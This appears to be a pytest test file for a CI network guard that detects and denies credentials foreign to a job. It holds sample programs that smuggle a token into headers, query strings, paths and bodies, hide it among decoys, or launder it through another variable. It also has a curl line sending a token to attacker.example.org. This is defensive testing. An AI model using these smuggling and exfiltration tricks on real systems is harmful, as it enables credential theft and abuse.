"""Credentials that are none of the job's: an attacker's own key makes an allowed host work for the attacker."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from tests.attacks.programs import PYTHON
from tests.attacks.test_exfiltration import SEND, sent
from tests.secrets.samples import random_text, sample
from tests.world import World
from tests.world.internet import API, EVIL

APIS = (API, "2001:db8::10")
PROGRAM = SEND + textwrap.dedent(
    """
    import base64, json, os, urllib.parse
    own, theirs = os.environ["GITHUB_TOKEN"], os.environ["BROUGHT_ALONG"]
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    basic = lambda value: "Basic " + base64.b64encode(f"x-access-token:{value}".encode()).decode()
    send("none", "GET")
    send("bearer", "GET", headers={"Authorization": "Bearer " + theirs})
    send("basic", "GET", headers={"Authorization": basic(theirs)})
    send("header", "GET", headers={"X-Key": theirs})
    send("query", "GET", "/?key=" + urllib.parse.quote(theirs))
    send("percent", "GET", "/?key=" + "".join(f"%{ord(one):02x}" for one in theirs))
    send("path", "GET", "/with/" + theirs + "/in")
    send("body", body="token=" + theirs, headers=form)
    send("json", body=json.dumps({"auth": {"token": theirs}}), headers={"Content-Type": "application/json"})
    send("chunked", body=iter([b"token=", theirs.encode()]), headers=form)
    """
)
EVERYWHERE = {"bearer", "basic", "header", "query", "percent", "path", "body", "json", "chunked"}


def policy(world: World, text: str) -> list[str]:
    file = Path(world.directory) / "foreign.yml"
    file.write_text(f"version: 1\n{text}")
    return ["--policy", str(file)]


def seen(outcome: object) -> list[dict]:
    return [one for event in outcome.events for one in event.get("foreign", ())]


def test_they_are_reported(world: World) -> None:
    theirs = sample("github-pat-classic")
    env = {"GITHUB_TOKEN": sample("github-actions-token"), "BROUGHT_ALONG": theirs}
    outcome = world.guard.run(policy(world, "allow: [api.example.com]\n"), [PYTHON, "-c", PROGRAM], env=env)
    assert outcome.code == 0, outcome.stderr
    assert set(sent(outcome).values()) == {"200"}
    assert {one["kind"] for one in seen(outcome)} == {"github-pat-classic"}
    assert {one["checked"] for one in seen(outcome)} == {"holds"}
    assert not any(one["denied"] for one in seen(outcome))
    assert {one["field"] for one in seen(outcome)} >= {"auth:bearer", "auth:basic.pass", "header:x-key", "query:key", "form:token", "json:auth.token"}  # fmt: skip
    assert len(seen(outcome)) == len(EVERYWHERE)
    assert "Credentials that are none of the job's" in outcome.stderr
    assert "GitHub personal access token (classic), whose checksum holds, to tls://api.example.com:443" in outcome.stderr
    assert outcome.report["foreign"][0]["kind"] == "github-pat-classic"
    assert theirs.encode() not in outcome.everything_written(), "it may be another victim's"


@pytest.mark.parametrize("text", ["allow: [api.example.com]\ncredentials: own\n", "allow: [{ host: api.example.com, credentials: own }]\n"])  # fmt: skip
def test_they_are_denied_where_only_the_jobs_own_may_be_used(world: World, text: str) -> None:
    theirs = sample("github-pat-classic")
    env = {"GITHUB_TOKEN": sample("github-actions-token"), "BROUGHT_ALONG": theirs}
    outcome = world.guard.run(policy(world, text), [PYTHON, "-c", PROGRAM], env=env)
    assert outcome.code == 90, outcome.stderr
    answers = sent(outcome)
    assert answers.pop("none") == "200"
    assert set(answers) == EVERYWHERE
    assert "200" not in answers.values()
    assert theirs.encode() not in world.received(*APIS)
    assert {one["reason"] for one in outcome.incidents} == {"foreign-credential"}
    assert "none of the job's" in outcome.stderr


def test_a_step_cannot_make_them_the_jobs_by_laying_them_where_secrets_are_found(world: World) -> None:
    env = {"GITHUB_TOKEN": sample("github-actions-token"), "BROUGHT_ALONG": sample("github-pat-classic")}
    command = ["sh", "-c", f'GH_TOKEN=$BROUGHT_ALONG exec {PYTHON} -c "$0"', PROGRAM]
    outcome = world.guard.run(policy(world, "allow: [api.example.com]\ncredentials: own\n"), command, env=env)
    assert outcome.code in (90, 91), outcome.stderr
    assert env["BROUGHT_ALONG"].encode() not in world.received(*APIS)
    assert {one["denied"] for one in seen(outcome)} == {True}


def test_any_is_for_the_hosts_that_need_it(world: World) -> None:
    env = {"GITHUB_TOKEN": sample("github-actions-token"), "BROUGHT_ALONG": sample("npm-token")}
    text = "allow: [{ host: api.example.com, credentials: any }, mirror.example.com]\ncredentials: own\n"
    outcome = world.guard.run(policy(world, text), [PYTHON, "-c", PROGRAM], env=env)
    assert outcome.code == 0, outcome.stderr
    assert len(seen(outcome)) == len(EVERYWHERE)


OWN = SEND + textwrap.dedent(
    """
    import base64, os
    own = os.environ["DEPLOY_TOKEN"]
    send("bearer", "GET", headers={"Authorization": "Bearer " + own})
    send("basic", "GET", headers={"Authorization": "Basic " + base64.b64encode(f"x:{own}".encode()).decode()})
    send("looks like", "GET", headers={"Authorization": "Bearer " + os.environ["LOOKS_LIKE"], "X-Id": "AKIAIOSFODNN7EXAMPLE"})
    """
)


def test_the_jobs_own_are_not_foreign(world: World) -> None:
    """Nor is what only looks like one denied: its checksum does not hold; nor an identifier that is no secret."""
    text = "allow: [api.example.com]\ncredentials: own\nsecrets: { DEPLOY_TOKEN: { to: [api.example.com] } }\n"
    env = {"DEPLOY_TOKEN": sample("github-pat-classic"), "LOOKS_LIKE": "ghp_" + random_text(36)}
    outcome = world.guard.run(policy(world, text), [PYTHON, "-c", OWN], env=env)
    assert (outcome.code, set(sent(outcome).values())) == (0, {"200"}), outcome.stderr
    assert [(one["checked"], one["denied"]) for one in seen(outcome)] == [("fails", False)]


CROWDED = SEND + textwrap.dedent(
    """
    import os
    fakes = [f"ghp_{number:036d}" for number in range(200)]
    theirs = os.environ["BROUGHT_ALONG"]
    send("many headers before", "GET", headers={**{f"X-{number}": fake for number, fake in enumerate(fakes[:60])}, "Authorization": "Bearer " + theirs})
    send("many in the query", "GET", "/?" + "&".join(fakes) + "&key=" + theirs)
    send("many literals", body="ghp_ " * 20000 + "token=" + theirs, headers={"Content-Type": "text/plain"})
    """
)


def test_it_does_not_hide_in_a_crowd(world: World) -> None:
    """Of look-alikes only so many are recorded, and only so many are looked at; beyond that a request is denied."""
    text = "allow: [{ host: api.example.com, credentials: own }]\n"
    outcome = world.guard.run(policy(world, text), [PYTHON, "-c", CROWDED], env={"BROUGHT_ALONG": sample("npm-token")})
    assert set(sent(outcome).values()) == {"403"}, outcome.stdout
    assert len(sent(outcome)) == 3
    assert world.received(*APIS).strip() == b""
    assert "npm-token" in {one["kind"] for one in seen(outcome) if one["denied"]}


def test_to_a_denied_host_nobody_cares_whose_it_is(world: World) -> None:
    command = ["sh", "-c", 'curl -sS -H "Authorization: Bearer $0" https://attacker.example.org/', sample("npm-token")]
    outcome = world.guard.run(policy(world, "credentials: own\nallow: [api.example.com]\n"), command)
    assert outcome.code == 90
    assert seen(outcome) == []
    assert {one["reason"] for one in outcome.incidents} == {"no-rule"}
    assert world.received(EVIL).strip() == b""


def test_audit_says_what_would_be_denied(world: World) -> None:
    env = {"GITHUB_TOKEN": sample("github-actions-token"), "BROUGHT_ALONG": sample("npm-token")}
    text = "mode: audit\nallow: [{ host: api.example.com, credentials: own }]\n"
    outcome = world.guard.run(policy(world, text), [PYTHON, "-c", PROGRAM], env=env)
    assert (outcome.code, set(sent(outcome).values())) == (0, {"200"}), outcome.stderr
    assert {one["reason"] for one in outcome.incidents} == {"foreign-credential"}
    assert all(one["denied"] for one in seen(outcome))
    assert not any(event.get("blocked") for event in outcome.events)
